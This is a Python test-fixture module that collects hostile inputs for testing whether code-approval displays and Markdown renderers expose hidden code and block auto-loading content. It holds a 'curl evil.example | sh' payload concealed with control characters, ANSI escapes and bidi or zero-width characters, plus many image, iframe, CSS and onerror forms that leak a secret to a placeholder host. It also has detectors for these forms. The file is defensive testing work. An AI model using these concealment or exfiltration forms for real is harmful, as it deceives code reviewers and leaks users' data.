"""Hostile inputs shared by the approval and rendering tests, and a small terminal to replay output on.

Each hidden-code form pairs the code with what a display must make visible: ``row`` must start a
line of the display (a payload Python or IPython would treat as its own line), ``marker`` must
appear somewhere (an invisible character that changes what the code means).
"""

from __future__ import annotations

import functools
import re
import unicodedata
from dataclasses import dataclass

PAYLOAD = 'os.system("curl evil.example | sh")  # PWNED'
COVER = "x = 1  # a harmless comment, long enough to cover the line before it ..........."

SEPARATORS = {
    "CR": "\r",
    "VT": "\x0b",
    "FF": "\x0c",
    "FS": "\x1c",
    "GS": "\x1d",
    "RS": "\x1e",
    "NEL": "\x85",
    "LINE SEPARATOR": "\u2028",
    "PARAGRAPH SEPARATOR": "\u2029",
}
INVISIBLE = {
    "RLO": "\u202e",
    "LRO": "\u202d",
    "RLE": "\u202b",
    "LRI": "\u2066",
    "RLI": "\u2067",
    "FSI": "\u2068",
    "PDI": "\u2069",
    "RLM": "\u200f",
    "ALM": "\u061c",
    "ZWSP": "\u200b",
    "ZWNJ": "\u200c",
    "ZWJ": "\u200d",
    "WORD JOINER": "\u2060",
    "BOM": "\ufeff",
    "SOFT HYPHEN": "\xad",
    "HANGUL FILLER": "\u3164",
    "TAG A": "\U000e0041",
    "VARIATION SELECTOR": "\ufe0f",
    "NUL": "\x00",
    "DEL": "\x7f",
}


@dataclass(frozen=True)
class Hidden:
    name: str
    code: str
    row: str = ""
    marker: str = ""


def _hidden_forms() -> list[Hidden]:
    forms = []
    for name, sep in SEPARATORS.items():
        forms.append(Hidden(f"{name}: payload then cover", f"{PAYLOAD}{sep}{COVER}", row=PAYLOAD))
        forms.append(Hidden(f"{name}: payload inside a comment", f"# harmless{sep}!{PAYLOAD}", row=f"!{PAYLOAD}"))
    forms += [
        Hidden("ESC erase line", f"{PAYLOAD}\x1b[2K\r{COVER}", row=PAYLOAD),
        Hidden("ESC cursor up", f"{PAYLOAD}\n{COVER}  #\x1b[1A\x1b[2K", row=PAYLOAD),
        Hidden("ESC conceal", f"x = 1  # \x1b[8m\n{PAYLOAD}\x1b[0m", row=PAYLOAD),
        Hidden("backspaces", f"{PAYLOAD}{chr(8) * len(PAYLOAD)}{COVER}", row=PAYLOAD),
        Hidden("very long first line", f"x = '{'a' * 5000}'\n{PAYLOAD}", row=PAYLOAD),
        Hidden("trojan source", 'access = "user\u202e \u2066# admin only\u2069 \u2066"', marker="<U+202E>"),
    ]
    forms += [
        Hidden(f"invisible {name}", f"os.sys{char}tem('ls')", marker=f"<{_name(char)}>")
        for name, char in INVISIBLE.items()
    ]
    return forms


def _name(char: str) -> str:
    return {"\x00": "NUL", "\x7f": "DEL"}.get(char) or f"U+{ord(char):04X}"


HIDDEN_CODE = _hidden_forms()


def invisible_characters(text: str) -> list[str]:
    """Characters a terminal or a browser may not show as themselves."""
    blank = set(INVISIBLE.values()) | set(SEPARATORS.values()) | {"\x1b", "\x08"}
    return [c for c in text if c in blank or (unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp"} and c not in "\t\n")]


_CSI = re.compile(r"\x1b\[([0-9;]*)([A-Za-z])")
_OSC = re.compile(r"\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)")


def terminal_screen(text: str) -> list[str]:
    """What a VT100-like terminal shows after printing ``text``: overwrites, erases and concealment applied.

    Other control and format characters take no space, as on most terminals.
    """
    rows: dict[int, list[str]] = {}
    row = col = 0
    concealed = False
    i = 0
    while i < len(text):
        char = text[i]
        csi, osc = _CSI.match(text, i), _OSC.match(text, i)
        if csi:
            arg, op = csi.groups()
            if op == "K":
                rows[row] = [] if arg == "2" else rows.get(row, [])[:col]
            elif op == "A":
                row = max(0, row - int(arg or 1))
            elif op == "m":
                concealed = "8" in arg.split(";") or (concealed and arg not in ("", "0", "28"))
            i = csi.end()
            continue
        if osc:
            i = osc.end()
            continue
        if char == "\n":
            row, col = row + 1, 0
        elif char == "\r":
            col = 0
        elif char == "\x08":
            col = max(0, col - 1)
        elif char in "\x0b\x0c":
            row += 1
        elif not invisible_characters(char) and unicodedata.category(char) != "Mn":
            line = rows.setdefault(row, [])
            line.extend(" " * (col + 1 - len(line)))
            line[col] = " " if concealed else char
            col += 1
        i += 1
    return ["".join(rows.get(r, [])).rstrip() for r in range(max(rows, default=-1) + 1)]


# --- Markdown that would load something by itself ------------------------------------------

LEAK = "http://HOST/leak.png?d=secret"
"""Every form points here; replace HOST with a real address to count requests."""


@dataclass(frozen=True)
class Load:
    name: str
    text: str


MARKDOWN_LOADS = [
    Load("inline image", f"![x]({LEAK})"),
    Load("inline image with title", f'![x]({LEAK} "title")'),
    Load("angle-bracket destination", f"![x](<{LEAK}>)"),
    Load("nested brackets in alt", f"![a [b] c]({LEAK})"),
    Load("image inside a link", f"[![x]({LEAK})](http://example.com)"),
    Load("image in a list and a table", f"- ![x]({LEAK})\n\n| a |\n|---|\n| ![y]({LEAK}) |"),
    Load("reference image", f"![x][r]\n\n[r]: {LEAK}"),
    Load("collapsed reference", f"![r][]\n\n[r]: {LEAK}"),
    Load("shortcut reference", f"![r]\n\n[r]: {LEAK}"),
    Load("reference with other case and a title", f'![x][Ref]\n\n[ref]: <{LEAK}> "t"'),
    Load("definition on the next line", f"![x][n]\n\n[n]:\n  {LEAK}"),
    Load("reference inside a blockquote", f"> ![x][q]\n>\n> [q]: {LEAK}"),
    Load("scheme-relative image", "![x](//HOST/leak.png?d=secret)"),
    Load("img tag", f'<img src="{LEAK}">'),
    Load("IMG tag in capitals", f"<IMG SRC='{LEAK}'>"),
    Load("img split over lines", f'<img\nsrc="{LEAK}"\n/>'),
    Load("img with > in an attribute", f'<img alt=">" src="{LEAK}">'),
    Load("img srcset", f'<img src="x" srcset="{LEAK} 2x">'),
    Load("img onerror", f"<img src=x onerror=\"fetch('{LEAK}')\">"),
    Load("picture source srcset", f'<picture><source srcset="{LEAK}"><img src="x"></picture>'),
    Load("iframe", f'<iframe src="{LEAK}"></iframe>'),
    Load("video poster", f'<video poster="{LEAK}"></video>'),
    Load("video and audio src", f'<video src="{LEAK}"></video><audio src="{LEAK}" autoplay></audio>'),
    Load("track", f'<video><track src="{LEAK}"></video>'),
    Load("link stylesheet", f'<link rel="stylesheet" href="{LEAK}">'),
    Load("style element url()", f"<style>body {{ background: url({LEAK}) }}</style>"),
    Load("style attribute url()", f"<div style=\"background-image: url('{LEAK}')\">x</div>"),
    Load("svg image", f'<svg><image href="{LEAK}"/></svg>'),
    Load("object data", f'<object data="{LEAK}"></object>'),
    Load("embed", f'<embed src="{LEAK}">'),
    Load("input type=image", f'<input type="image" src="{LEAK}">'),
    Load("table background", f'<table background="{LEAK}"><tr><td>x</td></tr></table>'),
    Load("meta refresh", f'<meta http-equiv="refresh" content="0; url={LEAK}">'),
    Load("img in an HTML block", f"<div>\n\n![x]({LEAK})\n\n</div>"),
    Load("anchor with a style", f'<a href="http://example.com" style="background:url({LEAK})">x</a>'),
]

LOADING_TAGS = frozenset(
    [
        "img",
        "image",
        "iframe",
        "frame",
        "video",
        "audio",
        "source",
        "track",
        "picture",
        "embed",
        "object",
        "link",
        "style",
        "script",
        "svg",
        "input",
        "meta",
        "base",
        "body",
        "portal",
        "applet",
        "bgsound",
    ]
)
LOADING_ATTRS = frozenset(
    [
        "src",
        "srcset",
        "poster",
        "background",
        "data",
        "style",
        "lowsrc",
        "dynsrc",
        "ping",
        "href",
        "xlink:href",
        "action",
    ]
)


def render(markdown: str) -> str:
    """HTML from a real Markdown renderer (mistune, as nbconvert uses), raw HTML passed through."""
    return _renderer()(markdown)


@functools.cache
def _renderer():
    import mistune

    return mistune.create_markdown(escape=False, plugins=["table", "strikethrough", "url"])


def loading_elements(html: str) -> list[str]:
    """Elements in rendered HTML that a browser could fetch something for without a click."""
    from html.parser import HTMLParser

    found: list[str] = []

    class Finder(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            names = {name for name, _ in attrs} - ({"href"} if tag == "a" else set())
            if tag in LOADING_TAGS or names & LOADING_ATTRS:
                found.append(self.get_starttag_text() or tag)

    Finder().feed(html)
    return found
